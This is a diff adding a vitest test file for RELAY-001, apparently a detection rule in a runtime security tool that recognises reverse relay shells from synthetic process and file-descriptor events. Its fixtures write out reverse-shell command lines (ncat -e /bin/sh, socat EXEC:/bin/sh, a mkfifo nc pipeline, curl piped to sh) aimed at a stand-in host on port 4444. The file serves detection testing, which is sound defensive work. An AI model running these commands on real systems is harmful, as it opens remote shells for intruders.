@@ -1,0 +1,268 @@
+/**
+ * RELAY-001 over hand-made event sequences shaped like what the kernel reports for real relays
+ * (the kernel tier runs the programs), with who-holds-what given as a fake /proc that changes
+ * as the sequence goes on.
+ */
+import { describe, expect, it } from "vitest";
+import {
+  Engine, createRelay001Rule, createTrc101Rule, type EngineLogger, type Finding, type Holding, type HoldingsSource, type OutboundEvent,
+  type SensorEvent, type StdioFd, type TaskContext,
+} from "sockeye";
+import { BASE_TIME_MS, dup, exec, exit, fork } from "../engine/fixtures.js";
+
+const silentLogger: EngineLogger = { warn: () => {} };
+const REMOTE = { address: "10.0.0.66", port: 4444 };
+const LOCAL = { address: "10.0.0.5", port: 51234 };
+const SOCK = 9001;
+const at = (ms: number) => BASE_TIME_MS + ms;
+
+const proc = (pid: number, ppid: number, comm: string): Partial<TaskContext> => ({ pid, tid: pid, ppid, comm, startNs: pid * 1_000 });
+const pipe = (ino: number): StdioFd => ({ kind: "pipe", ino, dev: 15 });
+const fifo = (ino: number): StdioFd => ({ kind: "fifo", ino, dev: (254 << 20) | 1 });
+const unix = (ino: number, peerIno: number): StdioFd => ({ kind: "unix", ino, socketType: "stream", peerIno });
+const tty = (index: number): StdioFd => ({ kind: "tty", ino: 3, ttyIndex: index, controlling: true });
+
+const h = (fd: number, key: string, access: Holding["access"] = "both"): Holding => ({ fd, key, access });
+
+function outbound(p: Partial<TaskContext>, ino: number, ms: number, remote = REMOTE): OutboundEvent {
+  const t = { pid: 0, tid: 0, ppid: 0, uid: 0, gid: 0, cgroupId: 1, startNs: 0, comm: "", parentComm: "", ...p };
+  return {
+    kind: "outbound", timeMs: at(ms), timeNs: ms * 1e6 + 1e12, task: t, fd: 3, result: 0, socketIno: ino, family: "inet",
+    local: { ...LOCAL }, remote: { ...remote },
+  };
+}
+
+function start(p: Partial<TaskContext>, filename: string, args: string[], stdio: [StdioFd, StdioFd, StdioFd], ms: number): SensorEvent[] {
+  return [fork({ task: p, timeMs: at(ms) }), exec({ task: p, filename, args, stdio, timeMs: at(ms) })];
+}
+
+/** A step is an event, or a change to what processes hold (their /proc/<pid>/fd). */
+type Step = SensorEvent | { holds: Record<number, Holding[]> };
+
+function run(steps: Step[], withTrc101 = false) {
+  const world = new Map<number, Holding[]>();
+  const holdings: HoldingsSource = { holdings: (pid) => world.get(pid) };
+  const rules = [createRelay001Rule({ holdings }), ...(withTrc101 ? [createTrc101Rule({ precise: { contents: undefined } })] : [])];
+  const engine = new Engine({ rules, hostName: "h", now: () => at(0), logger: silentLogger });
+  const findings: Finding[] = [];
+  for (const step of steps) {
+    if ("holds" in step) {
+      for (const [pid, held] of Object.entries(step.holds)) world.set(Number(pid), held);
+    } else {
+      findings.push(...engine.handle(step));
+    }
+  }
+  return { findings, stats: engine.stats() };
+}
+
+const bash = proc(100, 1, "bash");
+const relay = proc(200, 100, "ncat");
+const shell = proc(201, 200, "sh");
+
+interface Case {
+  name: string;
+  steps: Step[];
+  /** For a relay: the relay program's name and the shell's fds whose stream reaches it. */
+  relay?: { program: string; fds: number[]; input: number; output: number };
+}
+
+const relays: Case[] = [
+  {
+    name: "ncat -e /bin/sh: two pipes, the parent holds their far ends and the socket",
+    steps: [
+      ...start(bash, "/usr/bin/bash", ["bash"], [tty(1), tty(1), tty(1)], 0),
+      ...start(relay, "/usr/bin/ncat", ["ncat", "10.0.0.66", "4444", "-e", "/bin/sh"], [tty(1), tty(1), tty(1)], 1),
+      outbound(relay, SOCK, 2),
+      { holds: { 200: [h(3, `sock:${SOCK}`), h(5, "pipe:11", "write"), h(6, "pipe:12", "read")], 201: [h(0, "pipe:11", "read"), h(1, "pipe:12", "write"), h(2, "pts:1")] } },
+      ...start(shell, "/bin/sh", ["/bin/sh"], [pipe(11), pipe(12), tty(1)], 3),
+    ],
+    relay: { program: "ncat", fds: [0, 1], input: 1, output: 1 },
+  },
+  {
+    name: "socat EXEC:/bin/sh: a socketpair, the peer held with the socket",
+    steps: [
+      ...start(relay, "/usr/bin/socat", ["socat", "TCP:10.0.0.66:4444", "EXEC:/bin/sh"], [tty(1), tty(1), tty(1)], 1),
+      outbound(relay, SOCK, 2),
+      { holds: { 200: [h(5, `sock:${SOCK}`), h(6, "sock:22")], 201: [h(0, "sock:21"), h(1, "sock:21"), h(2, "pts:1")] } },
+      ...start(shell, "/bin/sh", ["sh"], [unix(21, 22), unix(21, 22), tty(1)], 3),
+    ],
+    relay: { program: "socat", fds: [0, 1], input: 1, output: 1 },
+  },
+  {
+    name: "socat EXEC:'bash -li',pty: the pty master (tty-index) held with the socket",
+    steps: [
+      ...start(relay, "/usr/bin/socat", ["socat", "TCP:10.0.0.66:4444", "EXEC:bash -li,pty"], [tty(1), tty(1), tty(1)], 1),
+      outbound(relay, SOCK, 2),
+      { holds: { 200: [h(5, `sock:${SOCK}`), h(6, "ptm:7")], 201: [h(0, "pts:7"), h(1, "pts:7"), h(2, "pts:7")] } },
+      ...start(shell, "/usr/bin/bash", ["bash", "-li"], [tty(7), tty(7), tty(7)], 3),
+    ],
+    relay: { program: "socat", fds: [0, 1, 2], input: 1, output: 1 },
+  },
+  {
+    name: "mkfifo chain, the nc connecting last: cat F | sh -i 2>&1 | nc H P > F",
+    steps: [
+      ...start(bash, "/usr/bin/bash", ["bash", "-c", "cat F | sh -i 2>&1 | nc 10.0.0.66 4444 > F"], [tty(1), tty(1), tty(1)], 0),
+      { holds: { 302: [h(0, "pipe:31", "read"), h(1, "pipe:32", "write"), h(2, "pipe:32", "write")] } },
+      ...start(proc(302, 100, "sh"), "/bin/sh", ["sh", "-i"], [pipe(31), pipe(32), pipe(32)], 1),
+      { holds: { 301: [h(0, "pts:1"), h(1, "pipe:31", "write"), h(3, "fifo:254:1:40", "read")] } },
+      ...start(proc(301, 100, "cat"), "/usr/bin/cat", ["cat", "F"], [tty(1), pipe(31), tty(1)], 2),
+      ...start(proc(303, 100, "nc"), "/usr/bin/nc.traditional", ["nc", "10.0.0.66", "4444"], [pipe(32), fifo(40), tty(1)], 3),
+      { holds: { 303: [h(0, "pipe:32", "read"), h(1, "fifo:254:1:40", "write"), h(2, "pts:1"), h(3, `sock:${SOCK}`)] } },
+      outbound(proc(303, 100, "nc"), SOCK, 40),
+    ],
+    relay: { program: "nc.traditional", fds: [0, 1, 2], input: 2, output: 1 },
+  },
+  {
+    name: "node child_process.spawn: one socketpair per stdio fd",
+    steps: [
+      ...start(relay, "/usr/bin/node", ["node", "relay.js"], [tty(1), tty(1), tty(1)], 1),
+      outbound(relay, SOCK, 2),
+      { holds: { 200: [h(17, `sock:${SOCK}`), h(18, "sock:52"), h(19, "sock:54"), h(20, "sock:56")], 201: [h(0, "sock:51"), h(1, "sock:53"), h(2, "sock:55")] } },
+      ...start(shell, "/bin/sh", ["/bin/sh", "-i"], [unix(51, 52), unix(53, 54), unix(55, 56)], 3),
+    ],
+    relay: { program: "node", fds: [0, 1, 2], input: 1, output: 1 },
+  },
+];
+
+const notRelays: Case[] = [
+  {
+    name: "curl … | sh: curl feeds the shell, nothing reads it back into the connection",
+    steps: [
+      ...start(bash, "/usr/bin/bash", ["bash"], [tty(1), tty(1), tty(1)], 0),
+      ...start(proc(301, 100, "curl"), "/usr/bin/curl", ["curl", "-s", "http://x/"], [tty(1), pipe(31), tty(1)], 1),
+      outbound(proc(301, 100, "curl"), SOCK, 2),
+      { holds: { 301: [h(1, "pipe:31", "write"), h(5, `sock:${SOCK}`)], 302: [h(0, "pipe:31", "read"), h(1, "pts:1"), h(2, "pts:1")] } },
+      ...start(proc(302, 100, "sh"), "/bin/sh", ["sh"], [pipe(31), tty(1), tty(1)], 3),
+    ],
+  },
+  {
+    name: "sh -c under a relay-shaped parent: not reading commands from stdin",
+    steps: [
+      ...start(relay, "/usr/bin/python3", ["python3", "agent.py"], [tty(1), tty(1), tty(1)], 1),
+      outbound(relay, SOCK, 2),
+      { holds: { 200: [h(3, `sock:${SOCK}`), h(5, "pipe:11", "write"), h(6, "pipe:12", "read")], 201: [h(0, "pipe:11", "read"), h(1, "pipe:12", "write")] } },
+      ...start(shell, "/bin/sh", ["sh", "-c", "uptime"], [pipe(11), pipe(12), tty(1)], 3),
+    ],
+  },
+  {
+    name: "an SSH login: sshd holds the pty master and an accepted connection, no outbound one",
+    steps: [
+      ...start(proc(400, 1, "sshd-session"), "/usr/lib/openssh/sshd-session", ["sshd-session"], [tty(1), tty(1), tty(1)], 0),
+      { holds: { 400: [h(4, "sock:77"), h(9, "ptm:5")], 401: [h(0, "pts:5"), h(1, "pts:5"), h(2, "pts:5")] } },
+      ...start(proc(401, 400, "bash"), "/usr/bin/bash", ["-bash"], [tty(5), tty(5), tty(5)], 1),
+    ],
+  },
+  {
+    name: "tmux: the server holds the pty master and no socket",
+    steps: [
+      { holds: { 500: [h(3, "sock:88"), h(7, "ptm:6")], 501: [h(0, "pts:6"), h(1, "pts:6"), h(2, "pts:6")] } },
+      ...start(proc(500, 1, "tmux: server"), "/usr/bin/tmux", ["tmux"], [tty(1), tty(1), tty(1)], 0),
+      ...start(proc(501, 500, "bash"), "/usr/bin/bash", ["bash"], [tty(6), tty(6), tty(6)], 1),
+    ],
+  },
+  {
+    name: "an agent that connected a minute before it spawned the shell: the socket is not the shell's",
+    steps: [
+      ...start(relay, "/usr/bin/node", ["node", "agent.js"], [tty(1), tty(1), tty(1)], 0),
+      outbound(relay, SOCK, 1),
+      { holds: { 200: [h(17, `sock:${SOCK}`), h(18, "ptm:8")], 201: [h(0, "pts:8"), h(1, "pts:8"), h(2, "pts:8")] } },
+      ...start(shell, "/usr/bin/bash", ["bash", "-i"], [tty(8), tty(8), tty(8)], 60_000),
+    ],
+  },
+  {
+    name: "input and output on two different connections (nc | sh | nc)",
+    steps: [
+      ...start(bash, "/usr/bin/bash", ["bash"], [tty(1), tty(1), tty(1)], 0),
+      ...start(proc(301, 100, "nc"), "/usr/bin/nc", ["nc", "h", "1"], [tty(1), pipe(31), tty(1)], 1),
+      outbound(proc(301, 100, "nc"), SOCK, 2),
+      ...start(proc(303, 100, "nc"), "/usr/bin/nc", ["nc", "h", "2"], [pipe(32), tty(1), tty(1)], 2),
+      outbound(proc(303, 100, "nc"), SOCK + 1, 2),
+      { holds: { 301: [h(1, "pipe:31", "write"), h(3, `sock:${SOCK}`)], 303: [h(0, "pipe:32", "read"), h(3, `sock:${SOCK + 1}`)], 302: [h(0, "pipe:31", "read"), h(1, "pipe:32", "write")] } },
+      ...start(proc(302, 100, "sh"), "/bin/sh", ["sh"], [pipe(31), pipe(32), tty(1)], 3),
+    ],
+  },
+  {
+    name: "the relay connects after the window: the pipeline never came together in time",
+    steps: [
+      ...start(relay, "/usr/bin/ncat", ["ncat"], [tty(1), tty(1), tty(1)], 1),
+      { holds: { 200: [h(3, `sock:${SOCK}`), h(5, "pipe:11", "write"), h(6, "pipe:12", "read")], 201: [h(0, "pipe:11", "read"), h(1, "pipe:12", "write")] } },
+      ...start(shell, "/bin/sh", ["/bin/sh"], [pipe(11), pipe(12), tty(1)], 2),
+      outbound(relay, SOCK, 8000),
+    ],
+  },
+  {
+    name: "the shell exits before its relay connects",
+    steps: [
+      ...start(relay, "/usr/bin/ncat", ["ncat"], [tty(1), tty(1), tty(1)], 1),
+      { holds: { 200: [h(3, `sock:${SOCK}`), h(5, "pipe:11", "write"), h(6, "pipe:12", "read")], 201: [h(0, "pipe:11", "read"), h(1, "pipe:12", "write")] } },
+      ...start(shell, "/bin/sh", ["/bin/sh"], [pipe(11), pipe(12), tty(1)], 2),
+      exit({ task: shell, timeMs: at(3) }),
+      outbound(relay, SOCK, 4),
+    ],
+  },
+  {
+    name: "the far end of the shell's stdin held only for reading: the holder does not feed it",
+    steps: [
+      ...start(relay, "/usr/bin/ncat", ["ncat"], [tty(1), tty(1), tty(1)], 1),
+      outbound(relay, SOCK, 2),
+      { holds: { 200: [h(3, `sock:${SOCK}`), h(5, "pipe:11", "read"), h(6, "pipe:12", "read")], 201: [h(0, "pipe:11", "read"), h(1, "pipe:12", "write")] } },
+      ...start(shell, "/bin/sh", ["/bin/sh"], [pipe(11), pipe(12), tty(1)], 3),
+    ],
+  },
+];
+
+interface RelayFields {
+  destination: { ip: string; port: number };
+  sockeye: { relay: { program: { name: string }; socket_inode: number; shell: { fds: number[] }; input_chain: unknown[]; output_chain: unknown[] } };
+}
+
+describe("RELAY-001: relay shells give one finding each", () => {
+  it.each(relays.map((c) => [c.name, c] as const))("%s", (_name, c) => {
+    const { findings } = run(c.steps);
+    expect(findings.map((f) => f.rule.id)).toEqual(["RELAY-001"]);
+    const f = findings[0]! as unknown as Finding & RelayFields;
+    expect(f.destination).toEqual({ ip: REMOTE.address, port: REMOTE.port });
+    expect(f.sockeye.relay.program.name).toBe(c.relay!.program);
+    expect(f.sockeye.relay.socket_inode).toBe(SOCK);
+    expect(f.sockeye.relay.shell.fds).toEqual(c.relay!.fds);
+    expect(f.sockeye.relay.input_chain).toHaveLength(c.relay!.input);
+    expect(f.sockeye.relay.output_chain).toHaveLength(c.relay!.output);
+    expect(f.rule.severity).toBe("high");
+    expect(f.threat?.tactic.id).toEqual(["TA0002", "TA0011"]);
+  });
+});
+
+describe("RELAY-001: structural exclusions stay silent", () => {
+  it.each(notRelays.map((c) => [c.name, c] as const))("%s", (_name, c) => {
+    expect(run(c.steps).findings).toEqual([]);
+  });
+});
+
+describe("RELAY-001 and TRC-101: one incident, one finding", () => {
+  it("python dup2s the socket onto 0-2 (TRC-101), then pty.spawn runs sh behind a pty it relays (RELAY-001): one finding", () => {
+    const py = proc(200, 100, "python3");
+    const steps: Step[] = [
+      ...start(py, "/usr/bin/python3", ["python3", "-c", "..."], [tty(1), tty(1), tty(1)], 0),
+      outbound(py, SOCK, 1),
+      ...[0, 1, 2].map((fd, i) =>
+        dup({ task: py, newfd: fd, oldfd: 3, socketIno: SOCK, socketOnFds: [0, 1, 2].slice(0, i + 1), origin: "connected", local: { ...LOCAL }, remote: { ...REMOTE }, timeMs: at(2 + i) })),
+      { holds: { 200: [h(0, `sock:${SOCK}`), h(1, `sock:${SOCK}`), h(2, `sock:${SOCK}`), h(3, `sock:${SOCK}`), h(4, "ptm:9")], 201: [h(0, "pts:9"), h(1, "pts:9"), h(2, "pts:9")] } },
+      ...start(proc(201, 200, "sh"), "/bin/sh", ["sh"], [tty(9), tty(9), tty(9)], 10),
+    ];
+    const { findings, stats } = run(steps, true);
+    expect(findings.map((f) => f.rule.id)).toEqual(["TRC-101"]);
+    expect(stats.foldedByRule["RELAY-001"]).toBe(1);
+  });
+
+  it("two relay shells on two sockets: two findings", () => {
+    const steps: Step[] = [...relays[0]!.steps];
+    const relay2 = proc(210, 100, "ncat"), shell2 = proc(211, 210, "sh");
+    steps.push(
+      ...start(relay2, "/usr/bin/ncat", ["ncat"], [tty(1), tty(1), tty(1)], 10),
+      outbound(relay2, SOCK + 1, 11),
+      { holds: { 210: [h(3, `sock:${SOCK + 1}`), h(5, "pipe:61", "write"), h(6, "pipe:62", "read")], 211: [h(0, "pipe:61", "read"), h(1, "pipe:62", "write")] } },
+      ...start(shell2, "/bin/sh", ["/bin/sh"], [pipe(61), pipe(62), tty(1)], 12),
+    );
+    expect(run(steps).findings.map((f) => f.rule.id)).toEqual(["RELAY-001", "RELAY-001"]);
+  });
+});
